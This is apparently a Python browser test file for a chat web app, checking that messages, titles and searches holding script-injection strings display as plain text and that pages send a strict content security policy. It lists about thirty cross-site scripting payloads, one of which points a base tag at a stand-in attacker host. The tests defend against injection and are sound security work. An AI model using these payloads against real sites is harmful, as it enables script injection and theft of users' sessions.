"""What people write is text, wherever it stands: in messages, titles, searches, tokens."""

from uuid import uuid4

import pytest
from playwright.sync_api import expect

from memory_app.core.model.checkpoint import Checkpoint as Model
from memory_app.core.model.state import State
from memory_app.models import Chat, Turn
from tests.browser.visitor import Visitor
from tests.conftest import stored

MARK = "globalThis.hit=1"
BREAKOUTS = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "<img src=x onerror={}>",
    '"><img src=x onerror={}>',
    "'><svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<a href='javascript:{}' autofocus onfocus={}>x</a>",
    "<details open ontoggle={}>",
    "<template><script>{}</script></template>",
    "</textarea><script>{}</script>",
    "</title><script>{}</script>",
    "--></style><script>{}</script>",
    "<!--<script>{}//--></script>",
    '" onmouseover={} x="',
    "' autofocus onfocus={} x='",
    "javascript:{}",
    "{{{{constructor.constructor('{}')()}}}}",
    "{{% {} %}}",
    "${{{}}}",
    "<math><mtext><table><mglyph><style><img src=x onerror={}>",
    "<body onload={}>",
    "<style>@import 'data:text/css,*{{color:red}}'</style>{}",
    "<base href='//evil.example/'><script src=x></script>{}",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<object data='data:text/html,<script>{}</script>'>",
    "\u2028{}\u2029</script>",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "&lt;script&gt;{}&lt;/script&gt;",
    "<x onclick={} id=text><x id=page>",
)
PAYLOADS = [one.format(*[MARK] * 4) for one in BREAKOUTS]


@pytest.fixture
def haunted(visitor: Visitor, model: Model) -> Chat:
    """A chat whose turns say all of them, each way, and other chats that have them as titles."""
    blank = State.zeros(model.model.config)
    chat = stored(visitor.start_chat())
    for payload in PAYLOADS:
        chat.head = Turn.objects.create(
            chat=chat,
            parent=chat.head,
            client_turn_id=uuid4(),
            seed=1,
            status="complete",
            user_text=payload,
            reply_text=payload,
            state=blank.to_bytes(),
            state_sha256=blank.sha256(),
        )
        Chat.objects.create(owner=chat.owner, checkpoint=chat.checkpoint, title=payload[:200])
    chat.title = PAYLOADS[1]
    chat.save()
    return chat


def unharmed(visitor: Visitor) -> bool:
    page = visitor.page
    strange = "iframe, object, base, template:not([id$=-template]), img, math, [onerror], [onload]"
    return page.evaluate("globalThis.hit") is None and page.locator(strange).count() == 0


def test_nothing_that_is_stored_runs(visitor: Visitor, haunted: Chat) -> None:
    page = visitor.page
    page.goto(f"{visitor.url}/chat/{haunted.pk}/")
    for place in (".you .text", ".bot .text"):
        assert page.locator(f"#turns {place}").all_text_contents() == PAYLOADS
    expect(page.locator("#title")).to_have_text(PAYLOADS[1])
    page.locator("#turns .you").last.hover()
    assert unharmed(visitor)

    page.goto(f"{visitor.url}/chats/")
    assert set(PAYLOADS) <= set(page.locator(".chats .title").all_text_contents())
    assert unharmed(visitor)
    for payload in PAYLOADS[:4]:
        page.get_by_role("searchbox").fill(payload)
        page.get_by_role("searchbox").press("Enter")
        expect(page.get_by_role("searchbox")).to_have_value(payload)
        assert unharmed(visitor)


def test_nothing_that_is_sent_runs(visitor: Visitor) -> None:
    chat = visitor.start_chat()
    for payload in PAYLOADS[:6]:
        visitor.talk(payload)
        assert unharmed(visitor)
    turns = Turn.objects.filter(chat=chat).oldest_first()
    assert [turn.user_text for turn in turns] == PAYLOADS[:6]
    for turn in turns[:3]:
        visitor.page.goto(f"{visitor.url}/turn/{turn.pk}/")
        expect(visitor.page.locator("#map.drawn")).to_be_visible()
        assert unharmed(visitor)


def test_no_page_breaks_its_own_policy(visitor: Visitor) -> None:
    """The `complaints` that every test listens to hear it; here each page is walked through."""
    visitor.start_chat()
    for path in ("/", "/chats/", "/accounts/login/", "/accounts/signup/"):
        answer = visitor.page.goto(f"{visitor.url}{path}")
        assert answer is not None
        policy = answer.headers["content-security-policy"]
        assert "unsafe" not in policy
        assert visitor.page.evaluate("document.querySelectorAll('[style], style').length") == 0
        visitor.page.get_by_role("button", name="Switch between light and dark").click()
